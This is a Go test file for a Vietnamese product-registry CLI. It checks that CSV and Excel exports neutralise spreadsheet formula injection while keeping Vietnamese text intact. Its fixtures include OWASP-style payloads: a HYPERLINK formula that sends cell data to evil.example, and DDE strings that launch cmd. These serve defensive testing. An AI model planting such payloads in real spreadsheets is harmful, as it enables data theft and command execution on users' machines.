package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/ocopbot/ocopbot/flows"
	"github.com/ocopbot/ocopbot/storage/storagetest"
)

// Names a spreadsheet would run as formulas (OWASP's CSV injection
// examples), beside Vietnamese ones.
const (
	hyperlinkName = `=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")`
	ddeProduct    = `+cmd|' /C calc'!A0`
	sumPerson     = `@SUM(1+1)*cmd|' /C calc'!A0`
	minusProduct  = `-2+3+cmd|' /C calc'!A0`
)

// TestRegistryExportCSVForExcel: `ocopbot registry export --out x.csv`
// of a registry whose names start formulas writes UTF-8 with a BOM, no
// cell starting with a formula character (those names behind a `'`) and
// Vietnamese intact; `registry import` reads the export back as the same
// records, where it came from (nothing changes) and into an empty database
// (the same names); the XLSX export stores the names as text, not
// formulas.
func TestRegistryExportCSVForExcel(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	dir := t.TempDir()
	first, second := storagetest.NewDB(t), storagetest.NewDB(t)
	cli := func(db string, args ...string) string {
		t.Helper()
		var out, errb bytes.Buffer
		if err := run(ctx, append([]string{"registry"}, args...), env(map[string]string{"DATABASE_URL": db}), &out, &errb); err != nil {
			t.Fatalf("registry %s: %v\n%s%s", strings.Join(args, " "), err, out.String(), errb.String())
		}
		return out.String()
	}

	var in bytes.Buffer
	w := csv.NewWriter(&in)
	_ = w.WriteAll([][]string{flows.RegistryColumns,
		{"Thành phố Hồ Chí Minh", "Huyện Củ Chi", "Xã An Phú", hyperlinkName, "HTX", "0301234562", sumPerson, "0912345678",
			ddeProduct, "Thực phẩm", "4", "", "2388/QĐ-UBND", "28/06/2024", "Tỉnh"},
		{"Thành phố Hồ Chí Minh", "Huyện Củ Chi", "Xã Tân Thông Hội", "Hộ kinh doanh Trần Thị Bình", "HKD", "079190000123",
			"Trần Thị Bình", "0987654321", minusProduct, "Đồ uống", "3", "", "1520/QĐ-UBND", "15/09/2023", ""},
	})
	src := filepath.Join(dir, "dau-vao.csv")
	if err := os.WriteFile(src, in.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	cli(first.URL, "import", src)

	export := filepath.Join(dir, "xuat.csv")
	cli(first.URL, "export", "--province", "79", "--out", export)
	data, err := os.ReadFile(export)
	if err != nil {
		t.Fatal(err)
	}
	body, ok := bytes.CutPrefix(data, []byte("\xef\xbb\xbf"))
	if !ok {
		t.Fatalf("the CSV export has no UTF-8 BOM: starts %q", data[:min(len(data), 8)])
	}
	if !utf8.Valid(body) {
		t.Fatal("the CSV export is not UTF-8")
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 || !slices.Equal(rows[0], flows.RegistryColumns) {
		t.Fatalf("export: %q, want the header and 2 certificates", rows)
	}
	for i, r := range rows {
		for j, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("row %d column %d starts a formula: %q", i+1, j+1, c)
			}
		}
	}
	cells := strings.Join(slices.Concat(rows...), "\n")
	for _, want := range []string{"'" + hyperlinkName, "'" + ddeProduct, "'" + sumPerson, "'" + minusProduct,
		"Hộ kinh doanh Trần Thị Bình", "Thành phố Hồ Chí Minh", "Huyện Củ Chi", "Xã Tân Thông Hội", "2388/QĐ-UBND"} {
		if !strings.Contains(cells, want) {
			t.Errorf("the CSV export lacks the cell %q:\n%s", want, cells)
		}
	}

	// Read back: where it came from nothing changes; elsewhere the same
	// names, without the guards.
	if out := cli(first.URL, "import", export); !strings.Contains(out, "chủ thể mới 0, cập nhật 0; sản phẩm mới 0; giấy chứng nhận mới 0, đã có 2") {
		t.Errorf("the export imported where it came from: %s", out)
	}
	cli(second.URL, "import", export)
	var names []string
	if err := second.Store.Pool().QueryRow(ctx, `
SELECT ARRAY[(SELECT string_agg(name, '|' ORDER BY name) FROM producers), (SELECT string_agg(name, '|' ORDER BY name) FROM products),
             (SELECT string_agg(representative, '|' ORDER BY representative) FROM producers)]`).Scan(&names); err != nil {
		t.Fatal(err)
	}
	want := []string{hyperlinkName + "|Hộ kinh doanh Trần Thị Bình", ddeProduct + "|" + minusProduct, sumPerson + "|Trần Thị Bình"}
	if !slices.Equal(names, want) {
		t.Errorf("imported from the export:\n%q\nwant\n%q", names, want)
	}
	again := filepath.Join(dir, "xuat-lai.csv")
	cli(second.URL, "export", "--out", again)
	if data2, err := os.ReadFile(again); err != nil || !bytes.Equal(data, data2) {
		t.Errorf("export → import → export differs (%v):\n%s\nthen\n%s", err, data, data2)
	}

	// The workbook keeps the names as text.
	book := filepath.Join(dir, "xuat.xlsx")
	cli(first.URL, "export", "--province", "79", "--out", book)
	f, err := excelize.OpenFile(book)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetList()[0]
	xrows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for i, r := range xrows {
		for j, c := range r {
			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" {
				t.Errorf("workbook cell %s is a formula %q (%v)", cell, formula, err)
			}
			if c == hyperlinkName || c == ddeProduct || c == sumPerson || c == minusProduct {
				found++
				if typ, err := f.GetCellType(sheet, cell); err != nil || typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
					t.Errorf("workbook cell %s %q: type %v (%v), want text", cell, c, typ, err)
				}
			}
		}
	}
	if found != 4 {
		t.Errorf("the workbook holds %d of the 4 formula-like names as they are", found)
	}
}
